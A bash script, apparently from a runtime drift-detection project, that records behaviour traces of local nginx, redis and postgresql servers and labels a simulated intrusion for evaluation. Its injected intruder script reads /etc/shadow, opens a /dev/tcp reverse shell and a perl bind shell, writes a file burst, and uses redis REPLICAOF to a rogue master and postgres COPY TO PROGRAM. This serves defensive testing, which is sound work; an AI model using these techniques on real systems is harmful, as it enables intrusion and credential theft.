#!/usr/bin/env bash
# tools/record-testdata.sh: records testdata/<server>/{train,normal,drift}.dwt and
# drift.labels.json from real Debian servers (nginx, redis, postgresql) for `driftwatch eval`.
#
#   bash tools/record-testdata.sh [nginx] [redis] [postgresql]    (default: all three; root)
#
# Each server runs from its own config and data under /srv/dw-eval/<server> (removed at the
# end), as its Debian service user, listening on 127.0.0.1 only, in its own cgroup
# dw-eval/<server> (so its workload is "dw-eval/<server>"). Load generators run outside the
# cgroup, so the traces hold only the server's behaviour. Per server (record_server):
#   train   $TRAIN_SECONDS (default 360: rate baselines need 30 buckets of 10 s): the server
#           starts inside the recording, serves traffic mix A, restarts halfway, and stops;
#   normal  the server is already running, serves traffic mix B (other URLs, keys, queries and
#           client counts), restarts in the middle, serves more of mix B;
#   drift   the server serves mix A; in the middle, something inside its cgroup does what an
#           intruder would (<server>_inject); drift.labels.json lists what was injected.
# Installs the packages with services kept from starting, and stops and disables any service
# the installation started. Every process and cgroup it creates is removed on exit.
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$(pwd)
BUILD_DIR=${BUILD_DIR:-build}
DW=$ROOT/$BUILD_DIR/tools/driftwatch
WORKLOAD_BIN=$ROOT/$BUILD_DIR/tools/dw_test_workload
SERVERS=("$@")
[ ${#SERVERS[@]} -gt 0 ] || SERVERS=(nginx redis postgresql)

# Fixed paths and ports: the three traces of a server must agree on them, and the labels
# name them.
WORK=/srv/dw-eval
CG_BASE=dw-eval
SYS_PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
PG_BIN=/usr/lib/postgresql/15/bin
NGINX_PORT=18080
REDIS_PORT=16379
PG_PORT=15432
C2_PORT=14444        # the intruder's reverse-shell peer (outside the cgroup)
BIND_PORT=14445      # the intruder's bind-shell listener (inside the cgroup)
ROGUE_PORT=16380     # a rogue redis master (outside the cgroup)
BURST_FILES=300
TRAIN_SECONDS=${TRAIN_SECONDS:-360}
NORMAL_SECONDS=${NORMAL_SECONDS:-50}   # both halves together
MAINT_SECONDS=${MAINT_SECONDS:-45}    # how often a server's scheduled job runs in training
DRIFT_SECONDS=${DRIFT_SECONDS:-40}     # the intrusion comes at 15 s

die() { echo "record-testdata: $*" >&2; exit 1; }
say() { printf '\n== %s\n' "$*" >&2; }

[ "$(id -u)" -eq 0 ] || die "needs root (eBPF, cgroups, service users)"
CG_MOUNT=$(awk '$9 == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
[ -n "$CG_MOUNT" ] || die "no cgroup2 mount in /proc/self/mountinfo"
for s in "${SERVERS[@]}"; do
  case $s in nginx | redis | postgresql) ;; *) die "unknown server '$s' (nginx, redis, postgresql)" ;; esac
done

PIDS=()         # every background process started here, killed by id on exit
POLICY_RC_CREATED=0

cleanup() {
  set +e
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null; done
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && wait "$p" 2>/dev/null; done
  if [ -d "$CG_MOUNT/$CG_BASE" ]; then
    # Anything still in our cgroups was started by this script (a server's children).
    for f in "$CG_MOUNT/$CG_BASE"/*/cgroup.procs; do
      [ -f "$f" ] || continue
      while read -r p; do kill -KILL "$p" 2>/dev/null; done <"$f"
    done
    sleep 0.2
    rmdir "$CG_MOUNT/$CG_BASE"/* "$CG_MOUNT/$CG_BASE" 2>/dev/null
  fi
  [ "$POLICY_RC_CREATED" = 1 ] && rm -f /usr/sbin/policy-rc.d
  rm -rf "$WORK"
}
trap cleanup EXIT

# --- installation -------------------------------------------------------------------------

install_packages() {
  local pkgs=(nginx-light redis-server redis-tools postgresql postgresql-client curl perl
              apache2-utils)
  local fresh=()
  for p in nginx-light redis-server postgresql; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q "install ok installed" || fresh+=("$p")
  done
  # Debian starts services from maintainer scripts unless policy-rc.d says no.
  if [ ! -e /usr/sbin/policy-rc.d ]; then
    printf '#!/bin/sh\nexit 101\n' >/usr/sbin/policy-rc.d
    chmod +x /usr/sbin/policy-rc.d
    POLICY_RC_CREATED=1
  fi
  if ! DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${pkgs[@]}" \
      >/dev/null; then
    apt-get update >/dev/null
    DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${pkgs[@]}" >/dev/null
  fi
  # Leave no system service running, and none enabled that this script installed.
  local svc
  for p in "${fresh[@]:-}"; do
    case $p in
      nginx-light) svc=nginx ;; redis-server) svc=redis-server ;; postgresql) svc=postgresql ;;
      *) continue ;;
    esac
    service "$svc" stop >/dev/null 2>&1 || true
    update-rc.d "$svc" disable >/dev/null 2>&1 || true
    if [ "$p" = postgresql ]; then pg_ctlcluster 15 main stop >/dev/null 2>&1 || true; fi
  done
}

# --- processes in cgroups -----------------------------------------------------------------

# launch SERVER USER CMD...: runs CMD as USER (with a clean environment) in the cgroup
# dw-eval/SERVER, in the background; its pid is in LAUNCHED. The process joins the cgroup
# before it execs setpriv, so the exec chain setpriv -> CMD is inside the cgroup, as a service
# manager would start it.
launch() {
  local server=$1 user=$2
  shift 2
  env -i PATH="$SYS_PATH" HOME=/nonexistent LANG=C.UTF-8 \
    sh -c 'cg=$1 u=$2; shift 2; echo $$ >"$cg/cgroup.procs" && cd / &&
           exec setpriv --reuid="$u" --regid="$u" --init-groups "$@"' \
    sh "$CG_MOUNT/$CG_BASE/$server" "$user" "$@" </dev/null >>"$WORK/$server.out" 2>&1 &
  LAUNCHED=$!
  PIDS+=("$LAUNCHED")
}

# forget PID: PID was waited for; never signal it again (its number may be reused).
forget() {
  local kept=() p
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && [ "$p" != "$1" ] && kept+=("$p"); done
  PIDS=("${kept[@]:-}")
}

# Waits for a live driftwatch command's "ready" line in log file $1.
wait_ready() {
  for _ in $(seq 1 150); do grep -q "ready" "$1" 2>/dev/null && return 0; sleep 0.1; done
  cat "$1" >&2
  return 1
}

# until_ok CMD...: retries CMD for up to 15 s.
until_ok() {
  for _ in $(seq 1 150); do "$@" >/dev/null 2>&1 && return 0; sleep 0.1; done
  die "timed out waiting for: $*"
}

REC_PID=
REC_OUT=
REC_TMP=
# rec_start SERVER KIND: records testdata/SERVER/KIND.dwt from cgroup dw-eval/SERVER (the
# trace is moved there by rec_stop, so a failed run leaves the old one in place).
rec_start() {
  mkdir -p "testdata/$1"
  REC_OUT=testdata/$1/$2.dwt
  REC_TMP=$WORK/$1-$2.dwt
  # --syscalls: the traces also carry each syscall's first use, for the seccomp export.
  "$DW" record --out "$REC_TMP" --cgroup "$CG_BASE/$1" --syscalls \
    --duration $((TRAIN_SECONDS + 600)) \
    2>"$WORK/record-$1-$2.log" &
  REC_PID=$!
  PIDS+=("$REC_PID")
  wait_ready "$WORK/record-$1-$2.log" || die "driftwatch record did not start"
}
rec_stop() {
  sleep 1
  kill -INT "$REC_PID"
  wait "$REC_PID" || { cat "$WORK"/record-*.log >&2; die "driftwatch record failed"; }
  forget "$REC_PID"
  mv "$REC_TMP" "$REC_OUT"
  tail -n 1 "$WORK"/record-*.log | grep recorded >&2 || true
  rm -f "$WORK"/record-*.log
}

# stop_pid PID SIGNAL: stops a server the way its init script would and waits for it.
stop_pid() {
  kill "-$2" "$1" 2>/dev/null || true
  wait "$1" 2>/dev/null || true
  forget "$1"
}

# A peer outside the cgroup that accepts and closes connections (the intruder's side).
start_peer() {
  "$WORKLOAD_BIN" --serve-forever "$1" &
  PIDS+=($!)
}

# The intruder's script, run as the server's user inside its cgroup: look around, try the
# credential file, call home, open a bind shell, write many files into the data dir $1.
intruder_script() {
  cat <<SH
cd $1
id >/dev/null
uname -a >/dev/null
read -r line </etc/shadow || true
bash -c 'exec 3<>/dev/tcp/127.0.0.1/$C2_PORT && echo hello >&3' || true
perl -MIO::Socket::INET -e 'IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $BIND_PORT, Listen => 1, ReuseAddr => 1) or die; sleep 1' || true
i=0
while [ \$i -lt $BURST_FILES ]; do echo "\$i" >"burst-\$i.enc"; i=\$((i + 1)); done
SH
}

# inject_shell SERVER USER DATA_DIR: the intruder's script run by /bin/sh as USER inside the
# server's cgroup (an exploited server process executing a shell).
inject_shell() {
  launch "$1" "$2" /bin/sh -c "$(intruder_script "$3")"
  wait "$LAUNCHED" || true
  forget "$LAUNCHED"
}

# write_labels SERVER DATA_DIR [EXTRA_JSON_OBJECTS]: drift.labels.json from what inject_shell
# does (and the server-specific extras). Labels with "required": false are consequences of
# the injection (what the intruder's tools load and open); a finding matching one is not a
# false positive, and missing one is not a miss.
write_labels() {
  local extra=${3:-}
  # Exec events name the binary the kernel ran: /bin/sh resolves to dash on Debian.
  local SHELL_NAME
  SHELL_NAME=$(basename "$(readlink -f /bin/sh)")
  cat >"testdata/$1/drift.labels.json" <<JSON
[
  {"kind": "exec", "subject": "*/$SHELL_NAME", "what": "a shell spawned inside the server's cgroup (/bin/sh, that is $SHELL_NAME)"},
  {"kind": "exec", "subject": "*/id", "what": "the intruder runs id"},
  {"kind": "exec", "subject": "*/uname", "what": "the intruder runs uname -a"},
  {"kind": "file", "subject": "/etc/shadow", "what": "the intruder tries to read the password hashes"},
  {"kind": "exec", "subject": "*/bash", "what": "bash started for a /dev/tcp reverse shell"},
  {"kind": "network", "subject": "127.0.0.1:$C2_PORT", "what": "reverse shell connects to a new peer"},
  {"kind": "exec", "subject": "*/perl", "what": "perl started for a bind shell"},
  {"kind": "network", "subject": "listen 127.0.0.1:$BIND_PORT", "what": "bind shell listens on a new port"},
  {"kind": "file", "subject": "$2/burst-*.enc", "what": "$BURST_FILES new files written into the data dir"},
  {"kind": "rate", "subject": "*", "what": "write burst: $BURST_FILES file creations in well under a second"},
  {"kind": "syscall", "subject": "*", "what": "syscalls the intruder's tools (and the rogue master's replication) make that the server never made"},
  {"kind": "file", "subject": "/dev/null", "required": false, "what": "the intruder's shell redirects output"},
  {"kind": "file", "subject": "/dev/tty", "required": false, "what": "bash probes its terminal"},
  {"kind": "file", "subject": "/dev/urandom", "required": false, "what": "perl seeds its hash randomisation"},
  {"kind": "file", "subject": "/proc/filesystems", "required": false, "what": "id (libselinux) checks for selinuxfs"},
  {"kind": "file", "subject": "/usr/share/locale/*", "required": false, "what": "coreutils look for message catalogs"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libselinux.so*", "required": false, "what": "library loaded by id"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libpcre2-8.so*", "required": false, "what": "library loaded by id"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libtinfo.so*", "required": false, "what": "library loaded by bash"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libcrypt.so*", "required": false, "what": "library loaded by perl"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/perl-base/*", "required": false, "what": "perl modules loaded by the bind shell"}$extra
]
JSON
}

# --- nginx --------------------------------------------------------------------------------

NGINX_DIR=$WORK/nginx
NGINX_HTML=$NGINX_DIR/html

nginx_provision() {
  rm -rf "$NGINX_DIR"
  mkdir -p "$NGINX_DIR"/{conf,log,run,tmp} "$NGINX_HTML"/{css,js,img,uploads}
  echo "<html><body>home</body></html>" >"$NGINX_HTML/index.html"
  for i in $(seq -w 1 40); do echo "<html><body>page $i</body></html>" >"$NGINX_HTML/page$i.html"; done
  for i in $(seq 1 20); do head -c 2048 /dev/urandom >"$NGINX_HTML/img/$i.png"; done
  echo "body { color: #333 }" >"$NGINX_HTML/css/site.css"
  echo "console.log('app')" >"$NGINX_HTML/js/app.js"
  chown -R www-data:www-data "$NGINX_DIR"/{log,run,tmp} "$NGINX_HTML/uploads"
  cat >"$NGINX_DIR/conf/nginx.conf" <<CONF
worker_processes 2;
pid $NGINX_DIR/run/nginx.pid;
error_log $NGINX_DIR/log/error.log;
events { worker_connections 256; }
http {
  include /etc/nginx/mime.types;
  default_type application/octet-stream;
  access_log $NGINX_DIR/log/access.log;
  client_body_temp_path $NGINX_DIR/tmp/body;
  proxy_temp_path $NGINX_DIR/tmp/proxy;
  fastcgi_temp_path $NGINX_DIR/tmp/fastcgi;
  uwsgi_temp_path $NGINX_DIR/tmp/uwsgi;
  scgi_temp_path $NGINX_DIR/tmp/scgi;
  keepalive_timeout 5;
  server {
    listen 127.0.0.1:$NGINX_PORT;
    root $NGINX_HTML;
    index index.html;
    location / { try_files \$uri \$uri/ =404; }
    location /api/ { default_type application/json; return 200 '{"ok":true}'; }
  }
}
CONF
}

NGINX_PID=
nginx_start() {
  launch nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" \
    -g "daemon off;"
  NGINX_PID=$LAUNCHED
  until_ok curl -sf "http://127.0.0.1:$NGINX_PORT/index.html"
}
nginx_stop() { stop_pid "$NGINX_PID" QUIT; }

# get CONCURRENCY PATH...: GETs the paths over CONCURRENCY keep-alive clients, 10 per client.
nginx_get() {
  local c=$1
  shift
  printf "http://127.0.0.1:$NGINX_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
}

# Mix A: the home page, pages 01-20, the assets, images 1-10, a health check, a few scanners.
nginx_mix_a() {
  local paths=(/ /index.html /css/site.css /js/app.js /api/health /wp-login.php /.env)
  for i in $(seq -w 1 20); do paths+=("/page$i.html"); done
  for i in $(seq 1 10); do paths+=("/img/$i.png"); done
  nginx_get 3 "${paths[@]}" "${paths[@]}"
}
# Mix B: more pages (21-30 were never requested in mix A), more images, HEAD requests, other
# API calls and scanner paths, one client and then eight.
nginx_mix_b() {
  local paths=(/ /css/site.css /js/app.js /api/status /api/v1/items /admin.php /.git/config)
  for i in $(seq -w 5 30); do paths+=("/page$i.html"); done
  for i in $(seq 1 15); do paths+=("/img/$i.png"); done
  nginx_get 1 "${paths[@]}"
  nginx_get 8 "${paths[@]}" "${paths[@]}"
  curl -s -I "http://127.0.0.1:$NGINX_PORT/page07.html" "http://127.0.0.1:$NGINX_PORT/" >/dev/null
}

# A web shell or an exploited worker: the intruder's script as www-data, writing into the
# upload directory.
nginx_inject() { inject_shell nginx www-data "$NGINX_HTML/uploads"; }
nginx_labels() { write_labels nginx "$NGINX_HTML/uploads"; }


# --- redis --------------------------------------------------------------------------------

REDIS_DIR=$WORK/redis
REDIS_DATA=$REDIS_DIR/data

redis_provision() {
  rm -rf "$REDIS_DIR"
  mkdir -p "$REDIS_DATA" "$REDIS_DIR/run" "$REDIS_DIR/log"
  cat >"$REDIS_DIR/redis.conf" <<CONF
bind 127.0.0.1
port $REDIS_PORT
protected-mode yes
daemonize no
supervised no
pidfile $REDIS_DIR/run/redis.pid
logfile $REDIS_DIR/log/redis.log
dir $REDIS_DATA
dbfilename dump.rdb
save 2 1
appendonly yes
appendfsync everysec
CONF
  chown -R redis:redis "$REDIS_DIR"
  # A service that has run before: data and the append-only files exist.
  launch redis redis /usr/bin/redis-server "$REDIS_DIR/redis.conf"
  local pid=$LAUNCHED
  until_ok redis_ping
  redis-benchmark -p "$REDIS_PORT" -q -n 2000 -c 2 -r 1000 -t set,lpush >/dev/null
  stop_pid "$pid" TERM
}

redis_ping() { [ "$(redis-cli -p "$REDIS_PORT" ping 2>/dev/null)" = PONG ]; }
REDIS_PID=
redis_start() {
  launch redis redis /usr/bin/redis-server "$REDIS_DIR/redis.conf"
  REDIS_PID=$LAUNCHED
  until_ok redis_ping
}
redis_stop() { stop_pid "$REDIS_PID" TERM; }

# Mix A: strings, counters and lists over 1000 keys, four clients.
redis_mix_a() {
  redis-benchmark -p "$REDIS_PORT" -q -n 4000 -c 4 -r 1000 -t set,get,incr,lpush,lpop >/dev/null
  redis-cli -p "$REDIS_PORT" get key:000000000001 >/dev/null
}
# Mix B: hashes, sets, sorted sets, MSET and ranges over 50000 keys, sixteen clients, and the
# inspection commands an operator runs.
redis_mix_b() {
  redis-benchmark -p "$REDIS_PORT" -q -n 4000 -c 16 -r 50000 -t hset,sadd,zadd,mset,lrange_100 >/dev/null
  redis-cli -p "$REDIS_PORT" info >/dev/null
  redis-cli -p "$REDIS_PORT" dbsize >/dev/null
  redis-cli -p "$REDIS_PORT" --scan --pattern 'key:*' >/dev/null
}

# Scheduled jobs: rewrite the append-only file, as redis does by itself when the file has
# doubled (auto-aof-rewrite-percentage) and operators schedule on quiet hours; and the
# monitoring scrape (INFO) every exporter of redis metrics makes.
redis_maintenance() {
  redis-cli -p "$REDIS_PORT" bgrewriteaof >/dev/null
  redis-cli -p "$REDIS_PORT" info >/dev/null
}

# The intruder's script as redis in the data directory, then the rogue-master technique:
# make the server replicate from the intruder's host.
redis_inject() {
  start_peer "$ROGUE_PORT"
  inject_shell redis redis "$REDIS_DATA"
  redis-cli -p "$REDIS_PORT" replicaof 127.0.0.1 "$ROGUE_PORT" >/dev/null
  sleep 1.5
  redis-cli -p "$REDIS_PORT" replicaof no one >/dev/null
}
redis_labels() {
  write_labels redis "$REDIS_DATA" ",
  {\"kind\": \"network\", \"subject\": \"127.0.0.1:$ROGUE_PORT\", \"what\": \"REPLICAOF makes redis connect to a rogue master\"}"
}


# --- postgresql ---------------------------------------------------------------------------

PG_DIR=$WORK/postgresql
PG_DATA=$PG_DIR/data

postgresql_provision() {
  rm -rf "$PG_DIR"
  mkdir -p "$PG_DATA" "$PG_DIR/run" "$PG_DIR/log"
  chown -R postgres:postgres "$PG_DIR"
  (cd / && setpriv --reuid=postgres --regid=postgres --init-groups \
    "$PG_BIN/initdb" -D "$PG_DATA" -U postgres --auth=trust >/dev/null)
  cat >>"$PG_DATA/postgresql.conf" <<CONF
listen_addresses = '127.0.0.1'
port = $PG_PORT
unix_socket_directories = '$PG_DIR/run'
max_connections = 30
shared_buffers = 32MB
work_mem = 1MB
CONF
  cat >"$PG_DIR/aggregate.sql" <<'SQL'
\set lo random(1, 90000)
SELECT count(*), sum(abalance) FROM pgbench_accounts WHERE aid BETWEEN :lo AND :lo + 5000;
SQL
  # A database that has been in use: the pgbench tables exist and are analysed.
  postgresql_launch
  local pid=$LAUNCHED
  pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q postgres >/dev/null 2>&1
  psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -c "VACUUM ANALYZE" postgres
  stop_pid "$pid" INT
}

PG_PID=
postgresql_launch() {
  launch postgresql postgres "$PG_BIN/postgres" -D "$PG_DATA"
  until_ok "$PG_BIN/pg_isready" -q -h 127.0.0.1 -p "$PG_PORT"
}
postgresql_start() {
  postgresql_launch
  PG_PID=$LAUNCHED
}
postgresql_stop() { stop_pid "$PG_PID" INT; }

PSQL=(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -X -o /dev/null postgres)
PGBENCH=(pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -n postgres)

# A report whose full sort spills to temporary files (work_mem is 1 MB).
postgresql_report() {
  "${PSQL[@]}" -c "SELECT aid, abalance FROM pgbench_accounts ORDER BY abalance DESC, filler OFFSET 99990"
}
# Mix A: TPC-B-like transactions on two clients, read-only on four, one report.
postgresql_mix_a() {
  "${PGBENCH[@]}" -c 2 -T 2 >/dev/null 2>&1
  "${PGBENCH[@]}" -S -c 4 -T 1 >/dev/null 2>&1
  postgresql_report
}
# Mix B: simple updates on six clients, an aggregate script on three, read-only on eight,
# catalog queries, and the report.
postgresql_mix_b() {
  "${PGBENCH[@]}" -N -c 6 -T 1 >/dev/null 2>&1
  "${PGBENCH[@]}" -c 3 -T 1 -f "$PG_DIR/aggregate.sql" >/dev/null 2>&1
  "${PGBENCH[@]}" -S -c 8 -T 1 >/dev/null 2>&1
  "${PSQL[@]}" -c "SELECT relname, n_live_tup FROM pg_stat_user_tables" -c '\dt'
  postgresql_report
}

# A superuser session (SQL injection, stolen credentials) runs the intruder's script through
# the server: postgres itself forks /bin/sh -c in the data directory.
postgresql_inject() {
  "${PSQL[@]}" -c "COPY (SELECT 1) TO PROGRAM \$drift\$$(intruder_script "$PG_DATA")\$drift\$"
}
postgresql_labels() { write_labels postgresql "$PG_DATA"; }


# --- the three recordings -----------------------------------------------------------------

# traffic SECONDS MIX [MAINTENANCE]: runs the server's traffic mix MIX in rounds for SECONDS,
# and MAINTENANCE (a scheduled job of the server) every MAINT_SECONDS.
traffic() {
  local end=$((SECONDS + $1)) next=$((SECONDS + MAINT_SECONDS))
  while [ "$SECONDS" -lt "$end" ]; do
    "$2"
    if [ -n "${3:-}" ] && [ "$SECONDS" -ge "$next" ]; then "$3"; next=$((SECONDS + MAINT_SECONDS)); fi
    sleep 2
  done
}

# The server's scheduled job, if it has one: training covers what production runs on a
# timer, or every run of the job in production would look new.
maintenance_of() { if declare -F "$1_maintenance" >/dev/null; then echo "$1_maintenance"; fi; }

record_server() {
  local s=$1
  say "$s: provisioning $WORK/$s"
  mkdir -p "$CG_MOUNT/$CG_BASE/$s"
  "${s}_provision"

  say "$s: train, ${TRAIN_SECONDS}s (start, mix A, restart, mix A, stop)"
  rec_start "$s" train
  "${s}_start"
  traffic $((TRAIN_SECONDS / 2)) "${s}_mix_a" "$(maintenance_of "$s")"
  "${s}_stop"
  "${s}_start"
  traffic $((TRAIN_SECONDS / 2)) "${s}_mix_a" "$(maintenance_of "$s")"
  "${s}_stop"
  rec_stop

  say "$s: normal, ${NORMAL_SECONDS}s (mix B, restart, mix B)"
  "${s}_start"
  rec_start "$s" normal
  traffic $((NORMAL_SECONDS / 2)) "${s}_mix_b"
  "${s}_stop"
  "${s}_start"
  traffic $((NORMAL_SECONDS / 2)) "${s}_mix_b"
  rec_stop
  "${s}_stop"

  say "$s: drift, ${DRIFT_SECONDS}s (mix A, intrusion, mix A)"
  start_peer "$C2_PORT"
  "${s}_start"
  rec_start "$s" drift
  traffic 15 "${s}_mix_a"
  "${s}_inject"
  traffic $((DRIFT_SECONDS - 15)) "${s}_mix_a"
  rec_stop
  "${s}_stop"
  "${s}_labels"
}

# --- main ---------------------------------------------------------------------------------

say "installing the servers and load generators"
install_packages
[ -x "$DW" ] && [ -x "$WORKLOAD_BIN" ] || BUILD_DIR=$BUILD_DIR bash tools/build.sh >/dev/null
for port in $NGINX_PORT $REDIS_PORT $PG_PORT $C2_PORT $BIND_PORT $ROGUE_PORT; do
  if ss -Hltn "sport = :$port" | grep -q .; then die "port $port is in use"; fi
done
rm -rf "$WORK"
mkdir -p "$WORK"
chmod 755 "$WORK"
for s in "${SERVERS[@]}"; do
  record_server "$s"
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null || true; done
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && wait "$p" 2>/dev/null || true; done
  PIDS=()
  ls -l "testdata/$s" >&2
done
